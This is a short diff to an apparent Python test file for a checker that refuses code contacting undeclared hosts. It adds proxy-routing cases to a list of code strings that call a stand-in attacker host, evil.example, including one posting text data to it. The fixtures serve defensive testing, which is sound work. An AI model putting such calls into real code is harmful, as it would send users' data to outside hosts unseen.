@@ -79,6 +79,8 @@ def test_a_constant_path_that_is_changed_and_not_declared_refuses(code, seen):
         ('socket.getaddrinfo("evil.example", 80)', "evil.example:80"),
         ('requests.post("https://evil.example", data=text)', "evil.example:443"),
         ('http.client.HTTPSConnection("evil.example")', "evil.example"),
+        ('ProxyHandler({"http": "http://evil.example:3128"})', "evil.example:3128"),
+        ('urllib.request.Request(text).set_proxy("evil.example", "http")', "evil.example"),
     ],
 )
 def test_a_constant_host_that_is_not_declared_refuses(code, seen):
